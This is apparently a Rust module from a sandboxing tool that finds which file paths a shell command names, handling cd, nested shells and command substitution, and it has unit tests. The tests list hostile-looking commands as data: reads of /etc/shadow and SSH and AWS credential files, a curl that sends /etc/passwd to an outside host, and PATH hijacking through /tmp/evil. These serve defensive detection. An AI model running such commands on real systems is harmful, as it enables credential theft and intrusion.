//! The paths that a shell command names. This is not an interpreter: a path that results from a
//! variable (other than the home directory) or from a program's output is not seen. The sandbox
//! restricts what is not seen here.

use std::path::{Path, PathBuf};

use selvedge_core::paths::normalize;

/// Files that every command may use.
const HARMLESS_FILES: &[&str] = &[
    "/dev/null",
    "/dev/zero",
    "/dev/full",
    "/dev/random",
    "/dev/urandom",
    "/dev/tty",
    "/dev/stdin",
    "/dev/stdout",
    "/dev/stderr",
];
/// Folders of programs that a command may start.
const PROGRAM_FOLDERS: &[&str] = &["/bin", "/sbin", "/usr", "/opt", "/nix", "/snap"];
/// Programs whose argument after `-c` is a command.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "eval"];
/// Maximum depth of commands within commands.
const DEPTH_LIMIT: u32 = 4;
/// Maximum bytes of a relative path; longer words are texts.
const PATH_LIMIT: usize = 200;

/// Where a command runs.
#[derive(Debug, Clone, Copy)]
pub(super) struct CommandContext<'a> {
    /// The folder in which it starts, absolute.
    pub(super) folder: &'a Path,
    /// The home directory, if known.
    pub(super) home: Option<&'a Path>,
    /// Whether a folder exists in the root directory: a word such as `/pattern/` is not a path.
    pub(super) is_root_entry: fn(&Path) -> bool,
}

/// All paths that a command names, absolute and without `..`.
pub(super) fn find_paths(command: &str, context: CommandContext<'_>) -> Vec<PathBuf> {
    let mut finder = PathFinder {
        context,
        folder: context.folder.to_owned(),
        found: Vec::new(),
    };
    finder.read_script(command, 0);
    finder.found
}

/// The same for a command that is split into words already.
pub(super) fn find_paths_in_words(words: &[String], context: CommandContext<'_>) -> Vec<PathBuf> {
    let mut finder = PathFinder {
        context,
        folder: context.folder.to_owned(),
        found: Vec::new(),
    };
    finder.read_command(words, 0);
    finder.found
}

struct PathFinder<'a> {
    context: CommandContext<'a>,
    /// The current folder: `cd` changes it.
    folder: PathBuf,
    found: Vec<PathBuf>,
}

impl PathFinder<'_> {
    fn read_script(&mut self, script: &str, depth: u32) {
        for words in split_commands(script) {
            self.read_command(&words, depth);
        }
    }

    fn read_command(&mut self, words: &[String], depth: u32) {
        let is_assignment = |word: &&String| {
            let name = word.split_once('=').map_or("", |(name, _)| name);
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        };
        let assignments = words.iter().take_while(is_assignment).count();
        let (assigned, command) = words.split_at(assignments);
        for word in assigned {
            self.read_word(word, depth);
        }
        let Some((program, arguments)) = command.split_first() else {
            return;
        };
        let is_system_program = |path: &str| {
            let path = normalize(Path::new(path));
            PROGRAM_FOLDERS
                .iter()
                .any(|folder| path.starts_with(folder))
        };
        if !is_system_program(program) {
            self.read_word(program, depth);
        }
        let name = program.rsplit('/').next().unwrap_or(program);
        let is_shell = SHELLS.contains(&name);
        for (index, word) in arguments.iter().enumerate() {
            let follows_flag = index
                .checked_sub(1)
                .and_then(|before| arguments.get(before))
                .is_some_and(|flag| flag.starts_with('-') && flag.ends_with('c'));
            if is_shell && (follows_flag || name == "eval") && depth < DEPTH_LIMIT {
                self.read_script(word, depth + 1);
            } else {
                self.read_word(word, depth);
            }
        }
        if matches!(name, "cd" | "pushd")
            && let Some(folder) = arguments.iter().find(|word| !word.starts_with('-'))
            && let Some(path) = self.path_of(folder)
        {
            self.folder = path;
        }
    }

    fn read_word(&mut self, word: &str, depth: u32) {
        if (word.contains("$(") || word.contains('`')) && depth < DEPTH_LIMIT {
            // The commands in a double-quoted text: everything else in it is harmless to read, too.
            self.read_script(&word.replace("$(", ";"), depth + 1);
            return;
        }
        // `--option=value`, `NAME=value`, and `-Ifolder`.
        let value = word.split_once('=').map(|(_, value)| value);
        let glued = word
            .starts_with('-')
            .then(|| word.find(['/', '~']).map(|at| &word[at..]))
            .flatten();
        let whole = (!word.starts_with('-')).then_some(word);
        for candidate in [whole, value, glued].into_iter().flatten() {
            let candidate = candidate.trim_start_matches('@');
            let candidate = candidate.strip_prefix("file://").unwrap_or(candidate);
            // A list such as that in `PATH`.
            let is_list = candidate.starts_with(['/', '~']) && candidate.contains(':');
            let parts = candidate.split(|c| is_list && c == ':');
            for part in parts {
                let Some(path) = self.path_of(part) else {
                    continue;
                };
                let is_harmless = HARMLESS_FILES.iter().any(|file| path == Path::new(file));
                if !is_harmless && !self.found.contains(&path) {
                    self.found.push(path);
                }
            }
        }
    }

    /// The path that a word is, from the current folder.
    fn path_of(&self, word: &str) -> Option<PathBuf> {
        let from_home = ["~", "$HOME", "${HOME}"].iter().find_map(|home| {
            let rest = word.strip_prefix(home)?;
            (rest.is_empty() || rest.starts_with('/')).then_some(rest)
        });
        if let Some(rest) = from_home {
            let home = self.context.home.unwrap_or(Path::new("/~"));
            return Some(normalize(&home.join(rest.trim_start_matches('/'))));
        }
        if word.starts_with('~') {
            // Another user's home.
            return Some(Path::new("/").join(word));
        }
        let path = Path::new(word);
        if path.is_absolute() {
            let path = normalize(path);
            let top = path.components().nth(1);
            let exists =
                top.is_none_or(|top| (self.context.is_root_entry)(&Path::new("/").join(top)));
            return exists.then_some(path);
        }
        let is_path = !word.is_empty() && word.len() <= PATH_LIMIT && !word.contains('\n');
        is_path.then(|| normalize(&self.folder.join(path)))
    }
}

/// Splits a script into its simple commands and these into words without quotes. Redirections count as
/// words of their command.
fn split_commands(script: &str) -> Vec<Vec<String>> {
    let mut commands = vec![Vec::new()];
    let mut word: Option<String> = None;
    let mut quote = None;
    let mut characters = script.chars();
    while let Some(character) = characters.next() {
        match (quote, character) {
            (Some(open), character) if character == open => quote = None,
            (Some('"') | None, '\\') => {
                let escaped = characters.next().unwrap_or_default();
                if escaped != '\n' {
                    word.get_or_insert_default().push(escaped);
                }
            }
            (None, '\'' | '"') => {
                quote = Some(character);
                word.get_or_insert_default();
            }
            (None, ' ' | '\t' | '<' | '>') => end_word(&mut commands, &mut word),
            (None, '\n' | ';' | '&' | '|' | '(' | ')' | '`') => {
                // `$(` begins a command, too.
                word = word.filter(|word| word != "$");
                end_word(&mut commands, &mut word);
                commands.push(Vec::new());
            }
            (_, character) => word.get_or_insert_default().push(character),
        }
    }
    end_word(&mut commands, &mut word);
    commands.retain(|words| !words.is_empty());
    commands
}

fn end_word(commands: &mut [Vec<String>], word: &mut Option<String>) {
    if let (Some(command), Some(word)) = (commands.last_mut(), word.take()) {
        command.push(word);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn outside(command: &str) -> Vec<String> {
        let context = CommandContext {
            folder: Path::new("/project/tree"),
            home: Some(Path::new("/home/me")),
            is_root_entry: |path| path != Path::new("/pattern"),
        };
        let paths = find_paths(command, context).into_iter();
        let outside = paths.filter(|path| !path.starts_with("/project/tree"));
        outside.map(|path| path.display().to_string()).collect()
    }

    #[test]
    fn command_within_workspace_names_no_path_outside() {
        for command in [
            "cargo test --workspace 2>/dev/null | tail -5",
            "cd src && cat ../README.md",
            "/usr/bin/env python3 -m pytest -x tests/",
            "/bin/sh -c 'make -j2 && ./run.sh'",
            "sed -n '/pattern/p' src/main.rs",
            "git commit -m 'Read /etc/hosts with care'",
            "curl https://example.com/etc/passwd -o page.html",
            "echo \"$(git rev-parse HEAD)\" > sub/../answer",
            "PYTHONPATH=src:lib python3 x.py",
            "/project/tree/script.sh",
        ] {
            assert_eq!(outside(command), [""; 0], "{command}");
        }
    }

    #[test]
    fn command_names_paths_outside() {
        for (command, path) in [
            ("cat /etc/passwd", "/etc/passwd"),
            ("cat ../secret", "/project/secret"),
            ("cd src; cat ../../secret", "/project/secret"),
            ("cat <~/.ssh/id_rsa", "/home/me/.ssh/id_rsa"),
            ("ls \"$HOME/.aws\"", "/home/me/.aws"),
            ("ls ${HOME}", "/home/me"),
            ("echo x >/tmp/planted", "/tmp/planted"),
            ("bash -lc 'cd / && cat etc/passwd'", "/"),
            ("echo \"$(cat /etc/shadow)\"", "/etc/shadow"),
            ("true; (cat '/etc/pass''wd')", "/etc/passwd"),
            ("tar --file=/srv/x.tar -C.. .", "/srv/x.tar"),
            ("cc -I/srv/include a.c", "/srv/include"),
            ("curl -d @/etc/passwd http://x", "/etc/passwd"),
            ("curl file:///etc/passwd", "/etc/passwd"),
            ("PATH=/tmp/evil:$PATH make", "/tmp/evil"),
            ("/tmp/evil", "/tmp/evil"),
            ("/usr/../tmp/evil", "/tmp/evil"),
            ("cat ~root/.bashrc", "/~root/.bashrc"),
            ("cat `echo` /e\\tc/passwd", "/etc/passwd"),
        ] {
            let found = outside(command);
            assert!(found.contains(&path.to_owned()), "{command}: {found:?}");
        }
    }

    #[test]
    fn command_in_words_is_read_like_a_script() {
        let context = CommandContext {
            folder: Path::new("/project/tree"),
            home: None,
            is_root_entry: |_| true,
        };
        let words = ["bash", "-lc", "cat /etc/passwd"].map(str::to_owned);
        let found = find_paths_in_words(&words, context);
        assert!(found.contains(&PathBuf::from("/etc/passwd")), "{found:?}");
    }
}
